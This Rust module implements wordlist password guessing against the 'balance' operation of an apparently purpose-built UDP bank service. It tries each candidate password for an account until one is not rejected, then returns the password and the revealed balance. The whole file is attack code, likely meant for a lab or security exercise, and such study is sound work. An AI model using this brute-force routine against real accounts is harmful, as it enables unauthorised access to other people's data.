//! Wordlist password guessing against the `balance` operation.

use std::io::{self, BufRead};

use tracing::debug;

use udpbank_auth::Credential;
use udpbank_core::AccountName;
use udpbank_protocol::{Request, Response};

use crate::rpc::{RpcError, Session};

/// A candidate the server accepted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cracked {
    pub password: String,
    /// The server's reply to the successful guess (the balance).
    pub response: String,
}

/// Try each candidate password in turn until one is not rejected with the
/// literal `not authorised`.
pub async fn crack<I>(
    session: &Session,
    account: &AccountName,
    candidates: I,
) -> Result<Option<Cracked>, RpcError>
where
    I: IntoIterator<Item = String>,
{
    for (attempt, password) in candidates.into_iter().enumerate() {
        let request = Request::Balance {
            account: account.clone(),
            credential: Credential::from_password(&password),
        };
        let reply = session.call(&request).await?;

        if reply != Response::NOT_AUTHORISED {
            debug!(attempt, "candidate accepted");
            return Ok(Some(Cracked {
                password,
                response: reply,
            }));
        }
    }
    Ok(None)
}

/// One candidate per line. Invalid UTF-8 is replaced lossily and a trailing
/// `\r` is dropped. A read error fails the whole list.
pub fn read_wordlist(reader: impl BufRead) -> io::Result<Vec<String>> {
    reader
        .split(b'\n')
        .map(|line| {
            let line = line?;
            Ok(String::from_utf8_lossy(&line)
                .trim_end_matches('\r')
                .to_string())
        })
        .collect()
}
